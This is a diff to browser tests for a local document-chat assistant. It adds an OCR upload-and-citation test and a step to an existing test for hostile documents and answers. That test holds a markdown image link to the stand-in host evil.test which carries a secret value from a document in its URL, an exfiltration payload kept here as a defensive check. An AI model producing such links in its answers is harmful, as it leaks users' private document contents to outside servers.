@@ -11,6 +11,7 @@ from playwright.sync_api import Page, expect
 
 from rag.assistant import Assistant
 from tests.engines.ollama_server import CHAT_MODEL, OllamaServer
+from tests.pictures import needs_tesseract, scanned
 from tests.scripted_ollama import ScriptedOllama
 
 from .conftest import IN_BROWSER, Site, start
@@ -120,6 +121,7 @@ def test_a_hostile_document_and_a_hostile_answer_load_nothing_and_link_nowhere(
         shown = page.locator(".st-key-statement-0-0")
         expect(shown).to_contain_text("![pixel](http://evil.test/p.png?q=4711)")
         page.locator("[class*=st-key-cite-0-0] button").first.click()
+        page.get_by_text("As text").click()
         expect(page.locator(".st-key-source-text")).to_contain_text("heron code is 4711")
         page.get_by_text("What I read").click()
         _nothing_from_elsewhere(page)
@@ -193,6 +195,32 @@ def test_files_are_uploaded_read_and_deleted(
         assert list((home / "files").iterdir()) == []
     finally:
         site.stop()
+
+
+def test_scans_are_read_in_the_background_and_cited_as_read_by_ocr(
+    page: Page, tmp_path: Path, make_library: Callable[..., Path], foreign: list[str]
+) -> None:
+    needs_tesseract()
+    home = make_library({"first.md": "# First\n\nThe first file says hello to everybody."})
+    heron = "The heron weighs 1740 grams"
+    scan = scanned(tmp_path / "scan.pdf", ["text:Typed notes about birds and boats.", heron])
+    site = start(home, "--engine", "embedded")
+    try:
+        page.goto(f"{site.address.replace('/?', '/documents?')}")
+        page.locator("input[type=file]").set_input_files(scan)
+        page.get_by_role("button", name="Add to library").first.click()
+        expect(page.get_by_text("Read 1 of 1 file from your upload.")).to_be_visible()
+        row = page.locator("[class*=st-key-row-]").filter(has_text="scan.pdf")
+        expect(row).to_contain_text("Page 2: read by OCR, 9")
+        page.get_by_role("link", name="Chat").click()
+        ask(page, "How much does the heron weigh?")
+        expect(page.locator(".st-key-footing-0")).to_contain_text("Read 2 of 2 files")
+        page.get_by_role("button", name="scan.pdf, page 2 (read by OCR").first.click()
+        expect(page.locator(".st-key-source")).to_contain_text("This page was read by OCR")
+        expect(page.locator(".st-key-source img")).to_be_visible()
+    finally:
+        site.stop()
+    assert foreign == []
 
 
 @pytest.mark.ollama
